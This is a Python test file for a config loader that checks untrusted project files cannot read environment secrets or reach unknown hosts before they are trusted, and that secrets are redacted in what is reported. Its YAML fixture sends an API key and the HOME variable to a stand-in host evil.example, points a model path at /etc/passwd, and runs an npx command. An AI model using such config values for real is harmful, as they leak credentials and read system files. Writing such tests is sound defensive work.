"""A file from a browser: what it may do, and what it asks for."""

from __future__ import annotations

from llamafarm.config import addresses, parse
from llamafarm.config.model import Loaded

HEAD = "version: v1\nname: test\nnamespace: default\n"
FILE = f"""{HEAD}mcp:
  servers:
    - name: fs
      command: npx
      args: [-y, server]
    - name: db
      base_url: https://db.example
      headers: {{Authorization: "Bearer ${{DB_TOKEN}}"}}
runtime:
  models:
    - {{name: variable, provider: openai, model: x, base_url: "https://evil.example/v1", api_key: "${{env:OPENAI_API_KEY}}"}}
    - {{name: literal, provider: openai, model: x, base_url: "https://evil.example/v1", api_key: sk-own}}
    - {{name: known, provider: openai, model: x, base_url: "https://known.example/v2", api_key: sk-own}}
    - {{name: keyless, provider: openai, model: x, base_url: "http://127.0.0.1:9/v1"}}
    - {{name: usual, provider: openai, model: x}}
    - {{name: bundled, provider: embedded, model: smollm2-135m-instruct}}
    - {{name: path, provider: embedded, model: /etc/passwd}}
    - {{name: in-url, provider: ollama, model: x, base_url: "http://evil.example/${{HOME}}"}}
"""
ENVIRON = {"OPENAI_API_KEY": "sk-secret", "DB_TOKEN": "token-secret", "HOME": "/home/secret"}


def read(*, trusted: bool) -> Loaded:
    known = {"https://known.example:443"}
    return parse(FILE, name="x.yaml", trusted=trusted, environ=ENVIRON, known_addresses=known)


def test_what_runs_before_a_file_is_trusted() -> None:
    project = read(trusted=False).project
    assert project is not None
    assert not project.trusted
    assert {model.name for model in project.models if model.usable} == {"known", "keyless", "bundled"}


def test_nothing_of_the_environment_is_read_before_a_file_is_trusted() -> None:
    loaded = read(trusted=False)
    words = repr(loaded) + loaded.model_dump_json()
    keys = (
        [model.api_key.get_secret_value() for model in loaded.project.models if model.api_key] if loaded.project else []
    )
    for secret in ENVIRON.values():
        assert secret not in words
        assert secret not in keys


def test_what_an_untrusted_file_asks_for() -> None:
    asks = [(ask.kind, ask.name, ask.target) for ask in read(trusted=False).asks]
    assert asks == [
        ("variable", "OPENAI_API_KEY", "https://evil.example:443"),
        ("address", "literal", "https://evil.example:443"),
        ("variable", "OPENAI_API_KEY", "https://api.openai.com:443"),
        ("file", "path", "/etc/passwd"),
        ("variable", "HOME", "http://evil.example:80"),
        ("command", "fs", "npx -y server"),
        ("variable", "DB_TOKEN", "https://db.example"),
        ("server", "db", "https://db.example with Authorization: 'Bearer ${DB_TOKEN}'"),
    ]


def test_what_it_asks_for_is_told_without_its_secrets() -> None:
    servers = (
        "mcp:\n  servers:\n    - {name: a, command: npx, args: [x, --token, sk-own-1, --key=sk-own-2, --n=1]}\n"
        "    - {name: b, url: 'https://u:sk-own-3@db.example?v=1', headers: {A: '${DB_TOKEN}'}}\n"
    )
    file = FILE.replace("mcp:\n  servers:\n", servers)
    asks = parse(file, name="x.yaml", trusted=False, environ=ENVIRON).asks
    assert "sk-own" not in repr(asks)
    assert [ask.target for ask in asks if ask.name == "a"] == ["npx x --token (hidden) --key=(hidden) --n=1"]
    assert "https://(hidden)@db.example?v=1" in [ask.target for ask in asks]


def test_a_trusted_file_asks_for_nothing() -> None:
    loaded = read(trusted=True)
    assert loaded.asks == ()
    assert loaded.project is not None
    assert {model.name for model in loaded.project.models if not model.usable} == set()


def test_addresses_are_origins_with_their_ports() -> None:
    project = read(trusted=True).project
    assert project is not None
    assert "https://known.example:443" in addresses(project)
    assert "http://127.0.0.1:9" in addresses(project)
